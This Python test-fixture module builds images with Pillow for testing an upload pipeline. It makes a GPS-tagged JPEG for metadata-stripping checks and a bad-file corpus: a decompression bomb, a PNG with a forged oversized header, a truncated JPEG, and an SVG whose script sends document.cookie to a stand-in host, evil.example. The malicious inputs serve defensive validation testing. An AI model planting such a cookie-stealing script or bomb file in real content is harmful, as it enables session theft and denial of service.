"""Test images made with Pillow at test time (no binaries in the repository): good photos and a bad-file corpus."""

import struct
import zlib
from io import BytesIO

from PIL import ExifTags, Image

GPS = {
    ExifTags.GPS.GPSLatitudeRef: "N",
    ExifTags.GPS.GPSLatitude: (51.0, 30.0, 12.5),
    ExifTags.GPS.GPSLongitudeRef: "W",
    ExifTags.GPS.GPSLongitude: (0.0, 7.0, 39.0),
}


def photo(size=(64, 48), image_format="JPEG", **save_options):
    """A small photo with a gradient, so the encoder has real pixels to work with."""
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    output = BytesIO()
    image.save(output, image_format, **save_options)
    return output.getvalue()


def jpeg_with_gps(size=(64, 48)):
    """A camera JPEG: GPS position, camera make, a comment and 'rotate 90° clockwise' (orientation 6)."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "PatientCam"
    exif[ExifTags.IFD.GPSInfo] = GPS
    return photo(size, exif=exif, comment=b"patient 4711")


def decompression_bomb():
    """48 megapixels of one colour in a few kilobytes: a valid PNG that would unpack to ~48 MB."""
    output = BytesIO()
    Image.new("1", (8000, 6000)).save(output, "PNG")
    return output.getvalue()


def png_with_huge_declared_size(width=100_000, height=100_000):
    """A tiny PNG whose header (with a correct checksum) claims 10 gigapixels."""
    data = bytearray(photo((4, 4), "PNG"))
    ihdr = bytearray(data[12:29])  # chunk type + 13 bytes of IHDR data
    ihdr[4:12] = struct.pack(">II", width, height)
    data[12:29] = ihdr
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(ihdr)))
    return bytes(data)


def truncated_jpeg():
    full = photo((400, 300), quality=95)
    return full[: len(full) // 2]


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>"
)
HTML_PAGE = b"<!DOCTYPE html>\n<html><head><title>x</title></head><body><script>alert(1)</script></body></html>"


def exif_of(data):
    """Every metadata trace Pillow can see in a stored file."""
    with Image.open(BytesIO(data)) as image:
        found = {key: image.info[key] for key in ("exif", "xmp", "comment") if image.info.get(key)}
        if image.getexif():
            found["exif_tags"] = dict(image.getexif())
        return found


def size_of(data):
    with Image.open(BytesIO(data)) as image:
        return image.size


def noise_photo(size):
    """Random pixels compress badly, like a real photo: the pixel-count refusal, not the bomb one."""
    output = BytesIO()
    Image.effect_noise(size, 80).convert("RGB").save(output, "JPEG", quality=95)
    return output.getvalue()
